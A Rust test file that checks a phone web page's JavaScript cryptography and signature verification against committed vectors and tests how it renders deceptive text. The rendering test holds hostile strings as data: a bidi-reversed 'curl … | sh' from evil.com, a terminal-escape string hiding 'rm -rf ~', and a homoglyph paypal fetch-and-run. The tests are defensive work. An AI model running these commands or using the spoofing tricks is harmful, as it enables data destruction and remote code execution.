//! The page's cryptography and rendering, run inside Chromium: the shipped modules must seal
//! and open exactly as `tests/data/seal-vectors.json` says, derive the same pairing token and
//! proof as the Rust side, and render the attack strings of SPEC §13.2 visibly.

use serde_json::{json, Value};

use super::chromium::Phone;
use super::world::AppOnly;

const SEAL_VECTORS: &str = include_str!("../../data/seal-vectors.json");

#[tokio::test]
async fn the_pages_seal_and_open_match_the_committed_vectors() {
    let app = AppOnly::start();
    let Some(phone) = Phone::launch().await else {
        return;
    };
    phone.goto(&app.url()).await;
    let got: Value = phone
        .eval(&format!(
            r#"(async () => {{
                const c = await import('./js/crypto.js');
                const enc = (s) => new TextEncoder().encode(s);
                const dec = (b) => new TextDecoder().decode(b);
                const out = [];
                for (const v of ({SEAL_VECTORS}).vectors) {{
                    const secret = c.unb64u(v.recipient_secret);
                    const pub = c.unb64u(v.recipient_public);
                    // The public key WebCrypto derives from the secret.
                    const jwk = await crypto.subtle.exportKey('jwk', await c.importSecret(secret, true));
                    // Opening with a key that cannot be exported, as the app's own key.
                    const key = await c.importSecret(secret);
                    const wire = await c.seal(pub, v.binding, enc(v.plaintext),
                        {{ ephemeralSecret: c.unb64u(v.ephemeral_secret), nonce: c.unb64u(v.nonce) }});
                    const opened = dec(await c.open(key, pub, v.binding, v.wire));
                    // One flipped bit, and a box moved to another event, must not open.
                    const raw = c.unb64u(v.wire); raw[raw.length - 1] ^= 1;
                    const refusals = [];
                    for (const [w, b] of [[c.b64u(raw), v.binding], [v.wire, {{ ...v.binding, event_id: 'interaction:other' }}]]) {{
                        try {{ await c.open(key, pub, b, w); refusals.push('opened'); }}
                        catch (e) {{ refusals.push(e.code); }}
                    }}
                    out.push({{
                        name: v.name,
                        public: jwk.x,
                        extractable: key.extractable,
                        key_id: await c.keyId(pub),
                        aad: dec(c.aad(v.binding)),
                        wire, opened, refusals,
                    }});
                }}
                return out;
            }})()"#
        ))
        .await;
    let file: Value = serde_json::from_str(SEAL_VECTORS).unwrap();
    let vectors = file["vectors"].as_array().unwrap();
    let got = got.as_array().unwrap();
    assert_eq!(got.len(), vectors.len());
    assert!(got.len() >= 3, "the vector file has at least three vectors");
    for (v, g) in vectors.iter().zip(got) {
        let name = v["name"].as_str().unwrap();
        assert_eq!(g["public"], v["recipient_public"], "{name}: public key");
        assert_eq!(g["extractable"], json!(false), "{name}");
        assert_eq!(g["key_id"], v["binding"]["key_id"], "{name}: key id");
        assert_eq!(g["aad"], v["aad"], "{name}: associated data");
        assert_eq!(g["wire"], v["wire"], "{name}: sealed wire form");
        assert_eq!(g["opened"], v["plaintext"], "{name}: opened plaintext");
        assert_eq!(
            g["refusals"],
            json!(["open", "open"]),
            "{name}: tampered boxes"
        );
    }
    phone.close().await;
}

#[tokio::test]
async fn the_pages_pairing_token_and_proof_match_the_rust_side() {
    use agentnotify_relay_proto::pairing;
    let app = AppOnly::start();
    let Some(phone) = Phone::launch().await else {
        return;
    };
    phone.goto(&app.url()).await;
    let secret = pairing::new_secret();
    let got: Value = phone
        .eval(&format!(
            r#"(async () => {{
                const c = await import('./js/crypto.js');
                return [await c.pairingToken({secret:?}), await c.deviceProof({secret:?}, 'inst-1', 'device-key-b64')];
            }})()"#
        ))
        .await;
    assert_eq!(
        got,
        json!([
            pairing::pairing_token(&secret),
            pairing::device_proof(&secret, "inst-1", "device-key-b64")
        ])
    );
    phone.close().await;
}

/// The same attack strings as the web UI's and the model's tests, cut by the page's own
/// rendering (the phone opens questions itself, so it cannot get segments from a server).
#[tokio::test]
async fn the_pages_rendering_names_invisible_code_points_and_marks_mixed_scripts() {
    let app = AppOnly::start();
    let Some(phone) = Phone::launch().await else {
        return;
    };
    phone.goto(&app.url()).await;
    let cases = json!([
        "echo ok \u{202E}# hs.lave/moc.live//:ptth | lruc\u{202C}",
        "https://exa\u{200D}mple.com/\u{200B}x\u{2060}\u{FEFF}\u{00AD}\u{FE0F}\u{E0041}",
        "ok\u{1b}[2K\rrm -rf ~\u{1b}]8;;http://evil\u{1b}\\link\u{1b}]8;;\u{7}\u{7f}\u{85}\u{9b}",
        "curl https://p\u{0430}ypal.com/login | sh",
        "Привет мир",
        "日本語のテキスト",
        "naïve café 123",
        "a\tb\nc",
    ]);
    let got: Value = phone
        .eval(&format!(
            "import('./js/render.js').then((r) => ({cases}).map((s) => [r.renderVisible(s), r.displaySegments(s)]))"
        ))
        .await;
    let shown = |i: usize| got[i][0].as_str().unwrap().to_string();
    assert_eq!(
        shown(0),
        "echo ok ⟨U+202E⟩# hs.lave/moc.live//:ptth | lruc⟨U+202C⟩"
    );
    assert_eq!(
        shown(1),
        "https://exa⟨U+200D⟩mple.com/⟨U+200B⟩x⟨U+2060⟩⟨U+FEFF⟩⟨U+00AD⟩⟨U+FE0F⟩⟨U+E0041⟩"
    );
    assert_eq!(
        shown(2),
        "ok⟨U+001B⟩[2K⟨U+000D⟩rm -rf ~⟨U+001B⟩]8;;http://evil⟨U+001B⟩\\link⟨U+001B⟩]8;;⟨U+0007⟩⟨U+007F⟩⟨U+0085⟩⟨U+009B⟩"
    );
    assert_eq!(
        got[3][1],
        json!([
            {"kind": "text", "text": "curl https://"},
            {"kind": "mixed_script_word", "text": "p\u{0430}ypal", "scripts": ["Cyrillic", "Latin"]},
            {"kind": "text", "text": ".com/login | sh"},
        ])
    );
    for i in 4..8 {
        assert_eq!(
            got[i][1],
            json!([{"kind": "text", "text": cases[i]}]),
            "{} is one script, nothing to name",
            cases[i]
        );
    }
    assert_eq!(
        got[2][1][1],
        json!({"kind": "escaped", "code_point": "U+001B", "text": "⟨U+001B⟩"})
    );
    phone.close().await;
}

const SIGNATURE_VECTORS: &str = include_str!("../../data/signature-vectors.json");
const PAIRING_VECTORS: &str = include_str!("../../data/pairing-vectors.json");

/// The installation's signatures and the pairing proof, against the vectors an independent
/// implementation made: the page builds the same signed messages and accepts exactly the
/// genuine signatures.
#[tokio::test]
async fn the_page_checks_signatures_and_pairs_as_the_committed_vectors_say() {
    let app = AppOnly::start();
    let Some(phone) = Phone::launch().await else {
        return;
    };
    phone.goto(&app.url()).await;
    let got: Value = phone
        .eval(&format!(
            r#"(async () => {{
                const c = await import('./js/crypto.js');
                const p = await import('./js/phone.js');
                const s = {SIGNATURE_VECTORS};
                const pv = {PAIRING_VECTORS};
                const e = s.envelope.envelope;
                const fields = ['agentnotify/envelope-sig/v1', e.installation_id, e.device_id, e.key_id, e.event_id, e.expires_at, e.sealed];
                const flip = (sig) => {{ const b = c.unb64u(sig); b[0] ^= 1; return c.b64u(b); }};
                const out = {{
                    envelope_message: JSON.stringify(fields) === s.envelope.message,
                    envelope: await c.verify(s.signing_public, fields, s.envelope.signature),
                    envelope_flipped: await c.verify(s.signing_public, fields, flip(s.envelope.signature)),
                    envelope_moved: await c.verify(s.signing_public, [...fields.slice(0, 4), 'interaction:other', ...fields.slice(5)], s.envelope.signature),
                    envelope_unsigned: await c.verify(s.signing_public, fields, undefined),
                    verdicts: [],
                    pairing_token: await c.pairingToken(pv.pairing_secret),
                    proof: await c.deviceProof(pv.pairing_secret, pv.installation_id, pv.device_public_key),
                }};
                for (const v of s.verdicts) {{
                    const device = {{ installation_id: v.installation_id, device_id: v.device_id, installation_signing_key: s.signing_public }};
                    const sent = {{ response_id: v.result.response_id, interaction_id: v.interaction_id }};
                    const signed = {{ ...v.result, signature: v.signature }};
                    out.verdicts.push([
                        v.name,
                        await p.verdictIsGenuine(device, sent, signed),
                        await p.verdictIsGenuine(device, sent, {{ ...signed, status: v.result.status === 'accepted' ? 'refused' : 'accepted' }}),
                        await p.verdictIsGenuine(device, {{ ...sent, interaction_id: 'another' }}, signed),
                        await p.verdictIsGenuine(device, sent, {{ ...v.result }}),
                    ]);
                }}
                return out;
            }})()"#
        ))
        .await;
    let pv: Value = serde_json::from_str(PAIRING_VECTORS).unwrap();
    assert_eq!(
        got["envelope_message"],
        json!(true),
        "the signed envelope message"
    );
    assert_eq!(got["envelope"], json!(true), "a genuine envelope signature");
    assert_eq!(got["envelope_flipped"], json!(false));
    assert_eq!(got["envelope_moved"], json!(false));
    assert_eq!(got["envelope_unsigned"], json!(false));
    assert_eq!(
        got["verdicts"],
        json!([
            ["accepted", true, false, false, false],
            ["refused", true, false, false, false]
        ]),
        "genuine verdicts pass; a changed status, another question or no signature does not"
    );
    assert_eq!(got["pairing_token"], pv["pairing_token"]);
    assert_eq!(got["proof"], pv["proof"]);
    phone.close().await;
}
